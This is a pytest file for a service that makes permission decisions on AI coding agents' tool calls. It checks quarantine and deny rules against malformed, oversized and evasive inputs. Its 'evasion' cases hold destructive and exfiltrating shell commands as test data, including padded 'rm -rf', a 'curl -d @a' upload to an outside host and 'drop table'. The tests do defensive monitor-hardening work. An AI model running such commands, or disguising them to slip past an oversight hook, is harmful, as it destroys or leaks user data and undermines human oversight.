"""Hooks that cannot be read: quarantine holds, and rules apply to what may be in them."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
from typing import TYPE_CHECKING, Any

import pytest
from msgspec.structs import replace

from models.errors import StateError
from models.trust.levels import quarantine
from models.trust.state import TrustState
from pipeline.configuration.hook_rules import rule_of
from pipeline.credentials.entries import make_key
from pipeline.store import Commit

if TYPE_CHECKING:
    from pathlib import Path

    import httpx

    from tests.scoring_api.conftest import Installation

JSON = {"content-type": "application/json"}
CALL = b'{"hook_event_name":"PreToolUse","session_id":"s","tool_name":"Bash","tool_use_id":"t%s}'
BEFORE = b'{"hook_event_name":"BeforeTool","session_id":"s","timestamp":"t","tool_name":"Bash"%s}'
COPILOT = b'{"sessionId":"s","timestamp":1,"toolName":"bash","toolArgs":"{}"%s}'
CLAUDE_PATH, COPILOT_PATH, GEMINI_PATH = (
    f"/v1/hooks/{name}" for name in ("claude-code", "copilot-cli", "gemini-cli")
)
PATHS = [(CLAUDE_PATH, CALL, "claude-code"), (CLAUDE_PATH, COPILOT, "copilot-cli"),
         (COPILOT_PATH, COPILOT, "copilot-cli"), (GEMINI_PATH, BEFORE, "gemini-cli")]  # fmt: skip
MALFORMED = [
    ("half of a pair", b',"a":"\\ud800"'),
    ("the other half of a pair", b',"a":"\\udc00 x"'),
    ("no UTF-8", b',"a":"\xff\xfe"'),
    ("a name for no number", b',"a":NaN'),
    ("a control character", b',"a":"\x00"'),
    ("deep", b',"a":' + b"[" * 100_000 + b"]" * 100_000),
    ("an open end", b',"a":"'),
    ("two values", b"}{"),
]


def shut(installation: Installation, agent_id: str) -> None:
    state = TrustState(agent_id=agent_id, mode="unknown", first_seen_us=1, last_seen_us=2)
    state = replace(state, level_state=quarantine(state.level_state))
    installation.store.commit(Commit(profiles=[(agent_id, "unknown", b"habits", state)]))


def decision_of(client: httpx.Client, path: str, body: bytes) -> str | None:
    answer = client.post(path, content=body, headers=JSON)
    assert answer.status_code == 200, answer.text
    given = answer.json()
    if path == CLAUDE_PATH and "hookSpecificOutput" in given:
        given = given["hookSpecificOutput"]
    found: str | None = given.get("permissionDecision", given.get("decision"))
    return found


@pytest.mark.parametrize(("path", "payload", "agent"), PATHS)
def test_quarantined_agent_is_denied_with_any_payload(
    installation: Installation, path: str, payload: bytes, agent: str
) -> None:
    shut(installation, agent)
    with installation.client() as client:
        found = {name: decision_of(client, path, payload % part) for name, part in MALFORMED}
    assert found == {name: "deny" for name, _ in MALFORMED}


@pytest.mark.parametrize("body", [b"", b"{}", b"[]", b"null", b'{"hook_event_name":7}', b"\xff"])
def test_payload_that_says_nothing_is_a_call(installation: Installation, body: bytes) -> None:
    shut(installation, "claude-code")
    with installation.client() as client:
        assert decision_of(client, CLAUDE_PATH, body) == "deny"


@pytest.mark.parametrize("agent", ["claude-code", "copilot-cli"])
def test_answer_to_what_cannot_be_read_is_in_both_forms(
    installation: Installation, agent: str
) -> None:
    shut(installation, agent)
    with installation.client() as client:
        answer = client.post(CLAUDE_PATH, content=b"{", headers=JSON).json()
    assert answer["hookSpecificOutput"]["permissionDecision"] == "deny"
    assert answer["permissionDecision"] == "deny"


def test_credential_says_who_is_quarantined(installation: Installation, tmp_path: Path) -> None:
    (one, first), (two, second) = (make_key(name, ["actions:write"]) for name in ("one", "two"))
    path = tmp_path / "keys.json"
    entries = [{"id": each.id, "sha256": each.sha256, "scopes": ["actions:write"]}
               for each in (first, second)]  # fmt: skip
    path.write_text(json.dumps(entries))
    shut(installation, "claude-code/one")
    with installation.client(api_keys_file=path) as client:
        found = []
        for key in (one, two):
            client.headers["Authorization"] = f"Bearer {key}"
            found.append(decision_of(client, CLAUDE_PATH, b"{"))
    assert found == ["deny", None]


@pytest.mark.parametrize(("path", "payload", "agent"), PATHS)
def test_call_that_cannot_be_read_may_do_anything(
    installation: Installation, path: str, payload: bytes, agent: str
) -> None:
    unread = [name for name, _ in MALFORMED if agent == "claude-code" or "pair" not in name]
    for rules, expected in (("*/pay=ask", "ask"), ("trusted/*=deny", None)):
        with installation.client(hook_rules=(rule_of(rules),)) as client:
            found = {name: decision_of(client, path, payload % part) for name, part in MALFORMED}
        assert {found[name] for name in unread} == {expected}


def test_half_of_a_pair_is_kept_and_read(installation: Installation, until: Any) -> None:
    body = CALL % b'oolu_0","tool_input":{"command":"rm -rf \\ud800"}'
    with installation.client(hook_rules=(rule_of("*/delete=ask"),)) as client:
        assert decision_of(client, CLAUDE_PATH, body) == "ask"
    until(lambda: installation.store.reports(1))
    assert installation.store.reports(1)[0][-1] == body


# ---------------------------------------------------------------------- too large


def large(size: int, command: str = "ls") -> bytes:
    call = json.loads(CALL % b'"') | {"tool_input": {"command": command, "more": "x" * size}}
    return json.dumps(call).encode()


def test_call_of_three_mebibytes_is_read(installation: Installation, until: Any) -> None:
    with installation.client(hook_rules=(rule_of("*/delete=deny"),)) as client:
        assert decision_of(client, CLAUDE_PATH, large(3 << 20, "rm a")) == "deny"
        assert decision_of(client, CLAUDE_PATH, large(3 << 20)) is None
    until(lambda: len(installation.store.reports(9)) == 2)


@pytest.mark.parametrize("chunked", [False, True])
def test_rules_apply_to_a_call_that_is_too_large_to_read(
    installation: Installation, *, chunked: bool
) -> None:
    body = large(20 << 20)

    def sent() -> Any:
        return (body[at : at + 65_536] for at in range(0, len(body), 65_536)) if chunked else body

    for rules, expected in (((), None), (("*/pay=ask",), "ask"), (("*/pay=deny",), "deny")):
        with installation.client(hook_rules=tuple(map(rule_of, rules))) as client:
            answer = client.post(CLAUDE_PATH, content=sent(), headers=JSON)
            if expected is None:
                assert answer.status_code == 413
                assert answer.json()["detail"] == "the body must be at most 16777216 bytes"
            else:
                given = answer.json()["hookSpecificOutput"]["permissionDecision"]
                assert (answer.status_code, given) == (200, expected)
    assert installation.store.reports(1) == []


@pytest.mark.parametrize(("path", "payload", "agent"), PATHS)
def test_quarantine_holds_for_a_body_that_is_too_large(
    installation: Installation, path: str, payload: bytes, agent: str
) -> None:
    shut(installation, agent)
    with installation.client(max_hook=1_000) as client:
        assert decision_of(client, path, payload % (b',"a":"' + b"x" * (1 << 20) + b'"')) == "deny"


def test_quarantine_holds_where_too_many_bodies_are_in_memory(installation: Installation) -> None:
    shut(installation, "claude-code")
    with installation.client(max_body_memory=1_000) as client:
        assert decision_of(client, CLAUDE_PATH, large(1 << 20)) == "deny"


# ---------------------------------------------------------------------- evasion


@pytest.mark.parametrize(
    ("rule", "command", "expected"),
    [
        ("*/delete=deny", "ls;" * 120 + "rm -rf x", "deny"),
        ("*/delete=deny", ":" + " " * 70_000 + "; rm -rf x", "deny"),
        ("*/delete=deny", f"bash -c 'ls; :{' ' * 5_000}; rm -rf x'", "deny"),
        ("*/send=deny", "rm -f x; curl -d @a https://example.com", "deny"),
        ("*/unknown=ask", "ls;" * 120 + "date", "ask"),
        ("*/unknown=ask", "echo 'no end", "ask"),
        ("*/unknown=ask", "rm x; echo 'no end", "ask"),
        ("*/delete=deny", "rm x; echo 'no end", "deny"),
        ("*/delete=deny", "echo 'no end", None),
        ("*/unknown=ask", "frobnicate", "ask"),
        ("*/unknown=ask", "ls && git status", None),
    ],
)
def test_rules_apply_to_all_that_a_command_may_do(
    installation: Installation, rule: str, command: str, expected: str | None
) -> None:
    call = json.loads(CALL % b'"') | {"tool_input": {"command": command}}
    with installation.client(hook_rules=(rule_of(rule),)) as client:
        assert decision_of(client, CLAUDE_PATH, json.dumps(call).encode()) == expected


def test_quarantine_does_not_depend_on_what_can_be_kept(
    installation: Installation, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(*_: object) -> None:
        raise StateError("the disk is full")

    shut(installation, "claude-code")
    monkeypatch.setattr(installation.store, "report", fail)
    with installation.client() as client:
        assert decision_of(client, CLAUDE_PATH, large(1)) == "deny"


def test_first_hook_loads_nothing(tmp_path: Path) -> None:
    program = """
        import asyncio, sys
        import httpx
        from scoring_api.wiring import create_app_from_settings

        async def main():
            app = create_app_from_settings()
            async with app.api.router.lifespan_context(app.api):
                while not app.service.cache.ready:
                    await asyncio.sleep(0.01)
                transport = httpx.ASGITransport(app, client=("127.0.0.1", 5))
                base = "http://127.0.0.1:8765"
                async with httpx.AsyncClient(transport=transport, base_url=base) as client:
                    await client.get("/livez")
                    before = set(sys.modules)
                    call = {"hook_event_name": "PreToolUse", "session_id": "s", "tool_name": "Bash",
                            "tool_use_id": "t", "tool_input": {"command": "psql -c 'drop table a'"}}
                    answer = await client.post("/v1/hooks/claude-code", json=call)
                    loaded = sorted(set(sys.modules) - before)
                    print(answer.status_code, "deny" in answer.text, loaded)

        asyncio.run(main())
    """
    found = subprocess.run(  # noqa: S603  # our own program
        [sys.executable, "-c", textwrap.dedent(program)], cwd=tmp_path, capture_output=True,
        text=True, timeout=60, check=False,
        env={"PYTHONPATH": ":".join(sys.path), "HABITUS_STORE": f"sqlite:{tmp_path / 'h.db'}",
             "HABITUS_HOOK_DECISIONS": "*/delete=deny"},
    )  # fmt: skip
    assert found.stdout == "200 True []\n", found.stderr
